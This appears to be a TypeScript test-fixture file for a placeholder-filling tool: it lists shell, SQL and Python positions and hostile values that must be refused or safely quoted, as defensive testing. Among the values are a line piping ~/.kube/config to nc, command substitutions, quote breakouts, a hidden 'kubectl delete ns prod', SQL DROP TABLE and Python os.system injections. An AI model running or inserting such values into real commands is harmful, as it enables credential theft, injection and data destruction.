// Hostile placeholder values × the places a placeholder can stand. Read by
// placeholderValues.test.ts: every pair is either refused with a sentence, or, filled and run
// in a real bash where `kubectl` records its arguments, makes exactly one kubectl call whose
// arguments are `expected(value)`.

export interface ShellPosition {
  readonly name: string;
  /** A shell step; `<value>` is the placeholder (`$VALUE` / `${VALUE}` forms use their own). */
  readonly step: string;
  /**
   * The kubectl arguments the step must produce for a value it accepts; undefined when bash
   * itself may reject the word there (arithmetic on a name): then at most one call.
   */
  readonly expected: (value: string) => string[] | undefined;
  /** Only plain words may stand here (bash evaluates the text): other values must be refused. */
  readonly plainOnly?: boolean;
  /** Values refused at this position only, with the sentence they get. */
  readonly refused?: Readonly<Record<string, RegExp>>;
}

const ENDS_HEREDOC = { EOF: /would end the heredoc early/ };

export const SHELL_POSITIONS: readonly ShellPosition[] = [
  { name: 'bare word', step: 'kubectl logs <value>', expected: (v) => ['logs', v] },
  { name: 'bare, two on a line', step: 'kubectl logs <value> --tail 5 <value>', expected: (v) => ['logs', v, '--tail', '5', v] },
  { name: 'part of a word after a slash', step: 'kubectl get pod/<value>', expected: (v) => ['get', `pod/${v}`] },
  { name: 'after --option=', step: 'kubectl get pods --selector=<value>', expected: (v) => ['get', 'pods', `--selector=${v}`] },
  { name: 'before a suffix', step: 'kubectl get pods -n <value>-db', expected: (v) => ['get', 'pods', '-n', `${v}-db`] },
  { name: '$VAR', step: 'kubectl logs $VALUE', expected: (v) => ['logs', v] },
  { name: '${VAR}', step: 'kubectl logs ${VALUE}x', expected: (v) => ['logs', `${v}x`] },
  { name: 'inside "..."', step: 'kubectl logs "<value>"', expected: (v) => ['logs', v] },
  { name: 'inside "..." with text around', step: 'kubectl annotate pod web "note=<value> (set by hand)"', expected: (v) => ['annotate', 'pod', 'web', `note=${v} (set by hand)`] },
  { name: '"$VAR"', step: 'kubectl logs "$VALUE"', expected: (v) => ['logs', v] },
  { name: "inside '...'", step: "kubectl logs '<value>'", expected: (v) => ['logs', v] },
  { name: "inside '...' with text around", step: "kubectl annotate pod web 'note=<value> ok'", expected: (v) => ['annotate', 'pod', 'web', `note=${v} ok`] },
  { name: "$VAR inside '...'", step: "kubectl logs 'x $VALUE'", expected: (v) => ['logs', `x ${v}`] },
  { name: "inside $'...'", step: "kubectl logs $'<value>'", expected: (v) => ['logs', v] },
  // printf %s joins its arguments: the byte count shows the value reached it as one word.
  { name: 'inside $(...)', step: 'kubectl logs $(printf %s <value> | wc -c)', expected: (v) => ['logs', String(Buffer.byteLength(v))] },
  { name: 'inside "$(...)"', step: 'kubectl logs "$(printf %s <value>)"', expected: (v) => ['logs', v] },
  { name: 'inside "$(... "..." ...)"', step: 'kubectl logs "$(printf %s "<value>")"', expected: (v) => ['logs', v] },
  { name: 'inside backticks in "..."', step: 'kubectl logs "`printf %s <value>`"', expected: (v) => ['logs', v] },
  { name: 'inside "..." in backticks in "..."', step: 'kubectl logs "`printf %s "<value>"`"', expected: (v) => ['logs', v] },
  { name: "inside '...' in backticks in \"...\"", step: "kubectl logs \"`printf %s '<value>'`\"", expected: (v) => ['logs', v] },
  { name: 'quoted heredoc body', step: "kubectl logs \"$(cat <<'EOF'\n<value>\nEOF\n)\"", expected: (v) => ['logs', v], refused: ENDS_HEREDOC },
  { name: 'unquoted heredoc body', step: 'kubectl logs "$(cat <<EOF\nx <value> y\nEOF\n)"', expected: (v) => ['logs', `x ${v} y`] },
  { name: 'heredoc body, then a command', step: "cat >/dev/null <<'EOF'\n<value>\nEOF\nkubectl get pods", expected: () => ['get', 'pods'], refused: ENDS_HEREDOC },
  { name: 'unquoted heredoc body, alone on its line', step: 'kubectl logs "$(cat <<-EOF\n<value>\nEOF\n)"', expected: (v) => ['logs', v], refused: ENDS_HEREDOC },
  { name: 'comment', step: 'kubectl get pods # for <value>', expected: () => ['get', 'pods'] },
  { name: 'default of ${X:-...}', step: 'kubectl logs "${UNSET_NAME:-<value>}"', expected: (v) => ['logs', v], plainOnly: true },
  { name: 'arithmetic', step: 'kubectl scale deploy web --replicas=$(( <value> + 0 ))', expected: (v) => (/^\d+$/.test(v) ? ['scale', 'deploy', 'web', `--replicas=${v}`] : undefined), plainOnly: true },
  // Another shell parses these again: only plain words, whatever the quoting.
  { name: "bash -c '...'", step: "bash -c 'kubectl logs <value>'", expected: (v) => ['logs', v], plainOnly: true },
  { name: 'bash -c "..."', step: 'bash -c "kubectl logs <value>"', expected: (v) => ['logs', v], plainOnly: true },
  { name: 'eval', step: 'eval kubectl logs <value>', expected: (v) => ['logs', v], plainOnly: true },
  { name: '[[ ... ]]', step: '[[ 1 -eq <value> ]]; kubectl get pods', expected: () => ['get', 'pods'], plainOnly: true },
];

export interface HostileValue {
  readonly value: string;
  /** Why it is there. */
  readonly note: string;
  /** Refused wherever it stands, with a sentence matching this. */
  readonly refusedEverywhere?: RegExp;
}

export const HOSTILE_VALUES: readonly HostileValue[] = [
  { value: 'web-7d9c-abcde', note: 'an ordinary pod name' },
  { value: 'x && bash /tmp/p.sh', note: 'a second command' },
  { value: '$(touch "$PWNED")', note: 'command substitution' },
  { value: '`touch "$PWNED"`', note: 'backtick substitution' },
  { value: 'x; cat ~/.kube/config | nc host 443', note: 'exfiltration' },
  { value: 'web-1 -n kube-system', note: 'extra words' },
  { value: "a'b", note: 'single quote' },
  { value: "'; touch \"$PWNED\"; '", note: 'breaks out of single quotes' },
  { value: 'a"b', note: 'double quote' },
  { value: '"; touch "$PWNED"; "', note: 'breaks out of double quotes' },
  { value: 'a\\', note: 'trailing backslash' },
  { value: '\\"', note: 'backslash quote' },
  { value: "\\'", note: 'backslash single quote' },
  { value: '$HOME', note: 'a variable' },
  { value: '${IFS}x', note: 'a braced variable' },
  { value: '!!', note: 'history expansion of the last command' },
  { value: 'a!touch', note: 'history expansion of a word' },
  { value: '*', note: 'a glob' },
  { value: '~', note: 'tilde expansion' },
  { value: '{a,b}', note: 'brace expansion' },
  { value: 'a b', note: 'a space' },
  { value: '', note: 'empty' },
  { value: '--all', note: 'an option' },
  { value: '#x', note: 'a comment mark' },
  { value: '>x', note: 'a redirect' },
  { value: 'a|b', note: 'a pipe' },
  { value: '(x)', note: 'parentheses' },
  { value: "$'\\x41'", note: 'ANSI-C quoting' },
  { value: 'x[$(touch "$PWNED")]', note: 'arithmetic evaluation of a subscript' },
  { value: 'EOF', note: 'the heredoc delimiter' },
  { value: ')', note: 'closes $(...)' },
  { value: '}', note: 'closes ${...}' },
  { value: 'ünïcødé', note: 'non-ASCII letters' },
  { value: 'x\ntouch "$PWNED"', note: 'a line break', refusedEverywhere: /line break/ },
  { value: 'x\rkubectl delete ns prod', note: 'a carriage return', refusedEverywhere: /line break/ },
  { value: 'x\u0015kubectl delete ns prod', note: 'Ctrl-U', refusedEverywhere: /control character U\+0015/ },
  { value: 'x\u001bb', note: 'ESC', refusedEverywhere: /control character U\+001B/ },
  { value: 'a\tb', note: 'a tab', refusedEverywhere: /tab/ },
  { value: 'web\u202e1', note: 'a bidi override', refusedEverywhere: /U\+202E/ },
  { value: 'web\u200b1', note: 'a zero-width space', refusedEverywhere: /U\+200B/ },
  { value: 'x\u007f', note: 'DEL', refusedEverywhere: /U\+007F/ },
];

/** Placeholders naming Kubernetes objects: values checked against the kind's name rule. */
export interface KubernetesNameCase {
  readonly placeholder: string;
  readonly value: string;
  /** Undefined: accepted. Otherwise the refusal names this rule. */
  readonly refused?: RegExp;
}

const SUBDOMAIN = /DNS-1123 subdomain/;
const LABEL = /DNS-1123 label/;

export const KUBERNETES_NAME_CASES: readonly KubernetesNameCase[] = [
  { placeholder: '<pod-name>', value: 'web-7d9c-abcde' },
  { placeholder: '<pod-name>', value: 'web.v2-0' },
  { placeholder: '<pod-name>', value: 'web-1 -n kube-system', refused: SUBDOMAIN },
  { placeholder: '<pod-name>', value: 'x && bash /tmp/p.sh', refused: SUBDOMAIN },
  { placeholder: '<pod-name>', value: '$(curl x)', refused: SUBDOMAIN },
  { placeholder: '<pod-name>', value: 'Web-1', refused: SUBDOMAIN },
  { placeholder: '<pod-name>', value: '-web', refused: SUBDOMAIN },
  { placeholder: '<pod-name>', value: '--all', refused: SUBDOMAIN },
  { placeholder: '<pod-name>', value: 'web-', refused: SUBDOMAIN },
  { placeholder: '<pod-name>', value: '', refused: SUBDOMAIN },
  { placeholder: '<pod-name>', value: 'a'.repeat(254), refused: SUBDOMAIN },
  { placeholder: '$POD', value: 'web-1;id', refused: SUBDOMAIN },
  { placeholder: '${POD_NAME}', value: 'web 1', refused: SUBDOMAIN },
  { placeholder: '<failing-pod>', value: 'web/1', refused: SUBDOMAIN },
  { placeholder: '<deployment>', value: 'checkout' },
  { placeholder: '<deployment>', value: 'checkout,payments', refused: SUBDOMAIN },
  { placeholder: '<statefulset>', value: 'db;x', refused: SUBDOMAIN },
  { placeholder: '<daemonset-name>', value: 'node-exporter' },
  { placeholder: '<job-name>', value: 'backup-29012' },
  { placeholder: '<job-name>', value: 'backup 2', refused: SUBDOMAIN },
  { placeholder: '<node-name>', value: 'ip-10-0-1-23.eu-west-1.compute.internal' },
  { placeholder: '<node>', value: 'node_1', refused: SUBDOMAIN },
  { placeholder: '<configmap>', value: 'app-config' },
  { placeholder: '<secret-name>', value: 'db-creds`id`', refused: SUBDOMAIN },
  { placeholder: '<namespace>', value: 'kube-system' },
  { placeholder: '<namespace>', value: 'kube.system', refused: LABEL },
  { placeholder: '$NAMESPACE', value: 'shop -A', refused: LABEL },
  { placeholder: '<ns>', value: 'a'.repeat(64), refused: LABEL },
  { placeholder: '<container>', value: 'istio-proxy' },
  { placeholder: '<container-name>', value: 'app.v2', refused: LABEL },
  { placeholder: '<service>', value: 'checkout-api' },
  { placeholder: '<svc>', value: '1checkout', refused: /RFC 1035 label/ },
  { placeholder: '<service-name>', value: 'checkout.api', refused: /RFC 1035 label/ },
  { placeholder: '<context>', value: 'arn:aws:eks:eu-west-1:123456789012:cluster/prod' },
  { placeholder: '<kube-context>', value: 'admin@prod' },
  { placeholder: '<context>', value: 'prod --kubeconfig /tmp/x', refused: /not starting with "-"/ },
  { placeholder: '<context>', value: '-prod', refused: /not starting with "-"/ },
  // Not object names: free text, quoted instead of checked.
  { placeholder: '<pod-ip>', value: '10.0.0.1; id' },
  { placeholder: '<reason>', value: 'x && y' },
];

export interface LanguageCase {
  readonly language: 'sql' | 'python';
  readonly name: string;
  /** A step of that language; `<value>` is the placeholder. */
  readonly step: string;
  /** What the step prints for an accepted value (SQL run by sqlite3 where its syntax allows, Python by python3). */
  readonly output?: (value: string) => string;
}

export const LANGUAGE_POSITIONS: readonly LanguageCase[] = [
  { language: 'sql', name: 'standard string', step: "SELECT '<value>' AS v;", output: (v) => v },
  { language: 'sql', name: 'bare', step: 'SELECT <value> AS v;' },
  { language: 'sql', name: 'quoted identifier', step: 'SELECT 1 AS "<value>";', output: () => '1' },
  { language: 'sql', name: 'block comment', step: 'SELECT 1 /* <value> */ AS v;', output: () => '1' },
  { language: 'sql', name: 'line comment', step: 'SELECT 1 AS v; -- <value>', output: () => '1' },
  { language: 'sql', name: 'E string', step: "SELECT E'<value>' AS v;" },
  { language: 'sql', name: 'dollar quoted', step: 'SELECT $q$<value>$q$ AS v;' },
  { language: 'python', name: 'single-quoted string', step: "import sys\nsys.stdout.write('<value>')", output: (v) => v },
  { language: 'python', name: 'double-quoted string', step: 'import sys\nsys.stdout.write("<value>")', output: (v) => v },
  { language: 'python', name: 'triple-quoted string', step: 'import sys\nsys.stdout.write("""<value>""")', output: (v) => v },
  { language: 'python', name: 'f-string', step: "import sys\nx = 1\nsys.stdout.write(f'{x}<value>')", output: (v) => `1${v}` },
  { language: 'python', name: 'raw string', step: "import sys\nsys.stdout.write(r'<value>')", output: (v) => v },
  { language: 'python', name: 'bytes', step: "import sys\nsys.stdout.write(b'<value>'.decode())", output: (v) => v },
  { language: 'python', name: 'bare', step: 'import sys\nsys.stdout.write(str(<value>))', output: (v) => (/^-?\d+$/.test(v) ? String(Number(v)) : v) },
  { language: 'python', name: 'comment', step: "import sys\nsys.stdout.write('fixed')  # <value>", output: () => 'fixed' },
];

/** Values aimed at SQL and Python literals, on top of HOSTILE_VALUES. */
export const LANGUAGE_VALUES: readonly string[] = [
  "'; DROP TABLE users; --",
  "\\'; DROP TABLE users; --",
  '*/ DROP TABLE users; /*',
  '$q$; DROP TABLE users; $q$',
  '"; DROP TABLE users; --',
  "{__import__('os').system('touch PWNED')}",
  "'''); import os; os.system('touch PWNED'); ('''",
  '"""); import os; os.system("touch PWNED"); ("""',
  '\\',
  '42',
  '-1.5',
  'users',
  'public.users',
  ':foo',
  '\\! touch PWNED',
];
